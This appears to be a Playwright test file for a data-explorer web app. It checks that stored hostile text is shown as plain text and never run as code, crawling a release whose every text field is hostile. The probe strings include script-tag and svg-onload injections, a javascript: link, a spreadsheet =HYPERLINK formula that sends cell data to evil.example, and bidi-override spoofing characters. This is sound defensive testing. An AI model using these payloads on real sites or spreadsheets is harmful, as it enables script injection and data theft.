"""Texts of documents that try to be more than text are text on every page that shows them."""

from __future__ import annotations

import threading
from collections import Counter
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, expect

from cchc.serve import make_server
from publishing.release import ReleaseContext, make_release
from tests.explorer.conftest import DIST, PROJECT
from tests.explorer.page_kinds import wait_until_whole
from tests.explorer.visitor import Visitor

DOCUMENT = "/document/added%2Fhostile_plan_2024"
SHOWING = [
    DOCUMENT,
    "/tasks?subject=CORRUPTION",
    "/unit/province/lao-cai?index=PAPI&year=2024",
    "/search?q=77%2FKH-UBND",
]
# What the page would have become, had any text been taken for more: a run script, an element or attribute that is not
# ours, an address that runs.
TAKEN = """() => {
    const all = [...document.querySelectorAll("*")];
    const isOurs = one => one.src.includes("/explorer/");
    const handlers = all.filter(one => one.getAttributeNames().some(name => name.startsWith("on")));
    const scripts = [...document.scripts, ...document.images].filter(one => !isOurs(one));
    const addresses = [...document.links].filter(one => !/^(https?|mailto|file):$/.test(one.protocol));
    const foreign = [...document.querySelectorAll("iframe, object, embed, form, base, svg script, foreignObject")];
    const ran = window.pwned === undefined ? [] : [`pwned ${window.pwned}`];
    return [...ran, ...[...handlers, ...scripts, ...addresses, ...foreign].map(one => one.outerHTML.slice(0, 200))];
}"""
LINKS = """() => [...document.querySelectorAll("a[href^='#/vi/']")].map(one => one.getAttribute("href"))"""
FIRST = [
    address.format(name, name.replace("_", "-"))
    for name in ("bidi", "script", "handler", "link", "bidi_formula")
    for address in (
        "#/vi/unit/province/hostile-{1}",
        "#/vi/document/hostile%2F{0}",
        "#/vi/figure/hostile%2F{0}%23hostile.PAPI.2021._total.score",
    )
]
MOST_OF_A_KIND = 8
DECEIVING = """() => {
    const isDeceiving = node => node.nodeType === 3 && /[\\u202a-\\u202e\\u2066-\\u2069]/.test(node.data);
    const all = [...document.querySelectorAll("body *, title")];
    return all.filter(one => [...one.childNodes].some(isDeceiving)).map(one => one.outerHTML.slice(0, 200));
}"""


@pytest.fixture(scope="module")
def desk(browser: Browser) -> Iterator[BrowserContext]:
    """A wide screen."""
    with browser.new_context(viewport={"width": 1280, "height": 900}, locale="vi") as context:
        yield context


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A served release every free text of which tries to be more than text."""
    if not DIST.exists():
        pytest.skip("The explorer is not built (`make explorer`).")
    root = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as patch:
        patch.syspath_prepend(str(PROJECT / "tests" / "publishing"))
        import hostile_rows
        import sample_build

        build = sample_build.write_build(root / "build" / "warehouse.duckdb", hostile_rows.build_rows())
        manifest = sample_build.write_manifest(root / "manifest.json", str(root))
    context = ReleaseContext(manifest=manifest, schema_version="1", checks={"dbt": "passed"}, explorer=DIST.parent)
    made = make_release(build, root / "release", context)
    with make_server(made.path, made.version, 0) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()


@pytest.mark.parametrize("address", SHOWING)
def test_a_hostile_plan_is_text_on_every_page_that_shows_it(desk: BrowserContext, site: str, address: str) -> None:
    visitor = Visitor(desk, site, "vi")
    visitor.open(address)
    wait_until_whole(visitor.page)
    visitor.page.evaluate("document.querySelectorAll('details').forEach(details => { details.open = true; })")
    expect(visitor.page.locator("main")).to_contain_text("77/KH-UBND")
    assert visitor.page.evaluate(TAKEN) == []
    visitor.leave()


def test_its_words_read_as_they_are_stored(desk: BrowserContext, site: str) -> None:
    visitor = Visitor(desk, site, "vi")
    visitor.open(DOCUMENT)
    wait_until_whole(visitor.page)
    text = visitor.page.locator("main").inner_text()
    for told in (
        "<script>window.pwned=1</script>",
        "<svg onload=window.pwned=3>",
        "javascript:window.pwned=4",
        '=HYPERLINK("http://evil.example/?"&A1,"Báo cáo")',
        "U+202Eđơn tố cáoU+202C",
    ):
        assert told in text
    expect(visitor.heading).to_contain_text("<script>window.pwned=1</script>")
    visitor.leave()


def test_no_page_of_a_hostile_release_takes_a_text_for_more(desk: BrowserContext, hostile_site: str) -> None:
    """Every free text of all rows is hostile: pages are walked from link to link, some of each kind."""
    visitor = Visitor(desk, hostile_site, "vi")
    seen: Counter[str] = Counter()
    wrong: list[tuple[str, str]] = []
    waiting, known = ["#/vi/", "#/vi/search?q=pwned", *FIRST], set[str]()
    while waiting:
        address = waiting.pop(0)
        kind = address.split("/")[2].partition("?")[0]
        if address in known or seen[kind] >= MOST_OF_A_KIND:
            continue
        known.add(address)
        seen[kind] += 1
        visitor.page.goto(f"{hostile_site}{address}")
        wait_until_whole(visitor.page)
        wrong += [(address, found) for found in visitor.page.evaluate(TAKEN) + visitor.page.evaluate(DECEIVING)]
        waiting += visitor.page.evaluate(LINKS)
    assert wrong == []
    assert set(seen) >= {"", "search", "unit", "index", "figure", "document", "tasks", "quality", "series", "compare"}
    visitor.leave()
